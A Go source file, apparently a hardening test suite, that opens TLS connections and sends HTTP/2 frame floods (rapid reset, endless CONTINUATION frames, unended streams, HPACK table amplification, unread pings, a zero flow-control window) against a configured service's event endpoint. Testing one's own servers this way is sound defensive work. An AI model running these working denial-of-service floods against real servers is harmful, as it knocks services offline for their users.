package hardening

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"io"
	"net"
	"strings"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// speaker writes any HTTP/2 frames.
type speaker struct {
	*http2.Framer

	out    *bufio.Writer
	block  bytes.Buffer
	hpack  *hpack.Encoder
	stream uint32
	frames *atomic.Int64
}

// flood is an attack by frames over one connection: begin, and the step so many times, until the listener closes it.
type flood struct {
	settings    []http2.Setting
	begin, step func(*speaker) error
	times       int
	// deaf means that it does not read the answers, and stays that it leaves the connection open afterwards.
	deaf, stays bool
	// ends means that the listener has to end the connection.
	ends bool
}

// frames attacks as a known runtime, by HTTP/2.
func (s *siege) frames(name string, workers int, f flood) attack {
	const pause = 200 * time.Millisecond
	return attack{name, s.share(workers), pause, func(ctx context.Context) error {
		conn, err := tlsFrom(ctx, attackers, s.addr, s.client(s.loud, "h2"))
		if err != nil {
			return err
		}
		defer conn.Close()
		stop := context.AfterFunc(ctx, func() { conn.Close() })
		defer stop()
		if tcp, ok := conn.NetConn().(*net.TCPConn); ok && f.deaf {
			_ = tcp.SetReadBuffer(4 << 10) // Else the system buffers megabytes.
		}
		if !f.deaf {
			heard := make(chan struct{})
			defer func() {
				conn.Close()
				<-heard
			}()
			go func() {
				defer close(heard)
				_, _ = io.Copy(io.Discard, conn) // It ends with the connection.
				conn.Close()
			}()
		}
		out := bufio.NewWriterSize(conn, 64<<10)
		speaker := &speaker{Framer: http2.NewFramer(out, nil), out: out, stream: 1, frames: &s.written}
		speaker.hpack = hpack.NewEncoder(&speaker.block)
		if _, err := out.WriteString(http2.ClientPreface); err != nil {
			return err
		}
		if err := errors.Join(speaker.WriteSettings(f.settings...), speaker.WriteSettingsAck(), out.Flush()); err != nil {
			return err
		}
		return speaker.flood(ctx, f)
	}, !f.ends}
}

// flood writes the frames.
func (s *speaker) flood(ctx context.Context, f flood) error {
	const batch = 50
	if f.begin != nil {
		if err := f.begin(s); err != nil {
			return err
		}
	}
	for i := 0; i < f.times && ctx.Err() == nil; i++ {
		if err := f.step(s); err != nil {
			return err
		}
		if i%batch == 0 {
			if err := s.out.Flush(); err != nil {
				return err
			}
			s.frames.Add(batch)
		}
	}
	if f.stays {
		<-ctx.Done()
	}
	return s.out.Flush()
}

// request begins a request on a new stream and returns the stream.
func (s *speaker) request(method, path string, ends bool, more ...hpack.HeaderField) (uint32, error) {
	id := s.stream
	s.stream += 2
	return id, s.WriteHeaders(http2.HeadersFrameParam{
		StreamID: id, EndHeaders: true, EndStream: ends, BlockFragment: s.fields(method, path, more...),
	})
}

func (s *speaker) fields(method, path string, more ...hpack.HeaderField) []byte {
	s.block.Reset()
	for _, field := range append([]hpack.HeaderField{
		{Name: ":method", Value: method},
		{Name: ":path", Value: path},
		{Name: ":scheme", Value: "https"},
		{Name: ":authority", Value: "a"},
		{Name: "content-type", Value: "application/json"},
	}, more...) {
		_ = s.hpack.WriteField(field) // It writes into memory.
	}
	return s.block.Bytes()
}

const eventPath = "/v2/" + manager + "/event"

// frameAttacks are attacks by HTTP/2, of a runtime with a good certificate.
func (s *siege) frameAttacks() []attack {
	event := []byte(eventV2("loud"))
	begun := func(s *speaker) error { // A request that does not end.
		_, err := s.request("POST", eventPath, false)
		return err
	}
	return []attack{
		s.frames("more events than its share", 8, flood{times: 3000, step: func(s *speaker) error {
			id, err := s.request("POST", eventPath, false)
			return errors.Join(err, s.WriteData(id, true, event))
		}}),
		s.frames("thousands of streams that do not end", 8, flood{times: 3000, step: begun}),
		s.frames("rapid reset", 8, flood{times: 5000, step: func(s *speaker) error {
			id, err := s.request("POST", eventPath, false)
			return errors.Join(err, s.WriteRSTStream(id, http2.ErrCodeCancel))
		}}),
		s.frames("header lists of one byte for four thousand", 4, flood{times: 100, begin: func(s *speaker) error {
			_, err := s.request("GET", "/", true, hpack.HeaderField{Name: "x", Value: strings.Repeat("a", 3900)})
			return err
		}, step: func(s *speaker) error {
			s.stream += 2
			return s.WriteHeaders(http2.HeadersFrameParam{
				StreamID: s.stream, EndHeaders: true, EndStream: true,
				BlockFragment: bytes.Repeat([]byte{0xbe}, 16<<10-1), // Index 62 is the youngest entry of the table.
			})
		}}),
		s.frames("continuations without end", 4, flood{times: 5000, ends: true, begin: func(s *speaker) error {
			err := s.WriteHeaders(http2.HeadersFrameParam{StreamID: s.stream, BlockFragment: s.fields("GET", "/")})
			s.block.Reset()
			_ = s.hpack.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("a", 4000), Sensitive: true})
			return err
		}, step: func(s *speaker) error { return s.WriteContinuation(s.stream, false, s.block.Bytes()) }}),
		// It ends when the buffers of both systems are full, which can be never.
		s.frames("pings, the answers not read", 4, flood{times: 1_000_000, deaf: true, stays: true, step: func(s *speaker) error {
			return s.WritePing(false, [8]byte{})
		}}),
		s.frames("a window of zero", 8, flood{
			times: 250, stays: true, settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}},
			step: func(s *speaker) error {
				_, err := s.request("GET", "/", true)
				return err
			},
		}),
	}
}
